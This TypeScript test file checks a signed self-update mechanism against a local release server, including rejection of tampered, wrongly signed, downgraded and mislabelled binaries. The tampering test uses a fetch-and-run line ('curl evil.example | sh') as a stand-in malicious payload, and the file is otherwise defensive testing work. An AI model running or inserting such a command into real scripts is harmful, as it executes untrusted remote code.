/**
 * Self-update from a local release server: the signed entry for this platform is downloaded and
 * renamed over the binary; a tampered binary, a manifest signed by another key, a downgrade
 * (without --allow-downgrade) and a binary that does not run as the signed version are refused
 * with the old binary left as it was. The console's route is estate.manage and refuses a server
 * that runs from a checkout.
 */
import { describe, test, expect, beforeAll, afterAll } from "bun:test";
import { generateKeyPairSync, sign } from "node:crypto";
import { chmodSync, readdirSync, readFileSync, rmSync, writeFileSync } from "node:fs";
import path from "node:path";
import { createTestApp, expectStatus, tempDir, type TestApp } from "../../../test/harness";
import { makeOwner, makePerson, makeProject } from "../../../test/fixtures";
import { selfUpdate, signedText } from "./self-update";

const release = generateKeyPairSync("ed25519");
const stranger = generateKeyPairSync("ed25519");
const TARGET = "linux-x64";
let dir: string;
let server: ReturnType<typeof Bun.serve>;
/** What the release server serves: path → bytes. */
const files = new Map<string, string>();

function script(version: string): string {
  return `#!/bin/sh\n[ "$1" = version ] && echo "ops ${version}"\n`;
}

function publish(version: string, body: string, opts: { key?: typeof release; served?: string } = {}): void {
  const sha = new Bun.CryptoHasher("sha256").update(body).digest("hex");
  const signature = sign(null, Buffer.from(signedText(version, TARGET, sha)), (opts.key ?? release).privateKey).toString("base64");
  files.set(`/ops-${version}`, opts.served ?? body);
  files.set("/release.json", JSON.stringify({ version, targets: { [TARGET]: { url: `/ops-${version}`, sha256: sha, signature } } }));
}

function installed(version: string): string {
  const bin = path.join(dir, `ops-${crypto.randomUUID()}`);
  writeFileSync(bin, script(version));
  chmodSync(bin, 0o755);
  return bin;
}

const update = (bin: string, current: string, allowDowngrade = false) =>
  selfUpdate({ manifestUrl: `http://127.0.0.1:${server.port}/release.json`, keys: [release.publicKey], currentVersion: current, target: TARGET, binaryPath: bin, allowDowngrade });

beforeAll(() => {
  dir = tempDir("ops-self-update-");
  server = Bun.serve({ hostname: "127.0.0.1", port: 0, fetch: (req) => (files.has(new URL(req.url).pathname) ? new Response(files.get(new URL(req.url).pathname)) : new Response("no", { status: 404 })) });
});

afterAll(() => {
  server.stop(true);
  rmSync(dir, { recursive: true, force: true });
});

describe("selfUpdate against a local release server", () => {
  test("a signed, matching release replaces the binary", async () => {
    const bin = installed("0.1.0");
    publish("0.2.0", script("0.2.0"));
    const r = await update(bin, "0.1.0");
    expect(r).toMatchObject({ updated: true, from: "0.1.0", version: "0.2.0" });
    expect(readFileSync(bin, "utf8")).toBe(script("0.2.0"));
    expect(Bun.spawnSync([bin, "version"]).stdout.toString().trim()).toBe("ops 0.2.0");
    expect((await update(bin, "0.2.0")).updated).toBe(false);
  });

  test("a tampered binary is refused and the old one stays", async () => {
    const bin = installed("0.1.0");
    publish("0.3.0", script("0.3.0"), { served: `${script("0.3.0")}curl evil.example | sh\n` });
    await expect(update(bin, "0.1.0")).rejects.toThrow(/SHA-256 .* is not the signed/);
    expect(readFileSync(bin, "utf8")).toBe(script("0.1.0"));
    expect(readdirSync(dir).filter((n) => n.startsWith(".ops-update-"))).toEqual([]);
  });

  test("a release signed by another key is refused", async () => {
    const bin = installed("0.1.0");
    publish("0.3.0", script("0.3.0"), { key: stranger });
    await expect(update(bin, "0.1.0")).rejects.toThrow(/not signed by the release key/);
    expect(readFileSync(bin, "utf8")).toBe(script("0.1.0"));
  });

  test("a downgrade needs allowDowngrade", async () => {
    const bin = installed("0.5.0");
    publish("0.4.0", script("0.4.0"));
    await expect(update(bin, "0.5.0")).rejects.toThrow(/older than this ops/);
    expect(readFileSync(bin, "utf8")).toBe(script("0.5.0"));
    expect((await update(bin, "0.5.0", true)).updated).toBe(true);
    expect(readFileSync(bin, "utf8")).toBe(script("0.4.0"));
  });

  test("a signed binary that does not run as the signed version is refused", async () => {
    const bin = installed("0.1.0");
    publish("0.6.0", script("0.5.9"));
    await expect(update(bin, "0.1.0")).rejects.toThrow(/does not run as ops 0.6.0/);
    expect(readFileSync(bin, "utf8")).toBe(script("0.1.0"));
  });

  test("no release key compiled in: refused", async () => {
    const bin = installed("0.1.0");
    await expect(selfUpdate({ manifestUrl: `http://127.0.0.1:${server.port}/release.json`, keys: [], currentVersion: "0.1.0", target: TARGET, binaryPath: bin })).rejects.toThrow(/no release key/);
  });
});

describe("POST /api/v1/estate/self-update", () => {
  let t: TestApp;
  beforeAll(async () => {
    t = await createTestApp({ env: { OPS_UPDATE_URL: `http://127.0.0.1:${server.port}/release.json` } });
  });
  afterAll(() => t.close());

  test("estate.manage; a server running from a checkout says so (409); 401 and 403", async () => {
    const owner = await makeOwner(t);
    makeProject(t, "p1");
    const dev = await makePerson(t, [{ role: "maintainer", project: null }]);
    const r = await expectStatus(await t.request("POST", "/api/v1/estate/self-update", { token: owner.session, body: {} }), 409);
    expect(r.message).toContain("checkout");
    await expectStatus(await t.request("POST", "/api/v1/estate/self-update", { token: dev.session, body: {} }), 403);
    await expectStatus(await t.request("POST", "/api/v1/estate/self-update", { body: {} }), 401);
    await expectStatus(await t.request("POST", "/api/v1/estate/self-update", { token: owner.session, body: { allow_downgrade: "yes" } }), 422);
  });
});
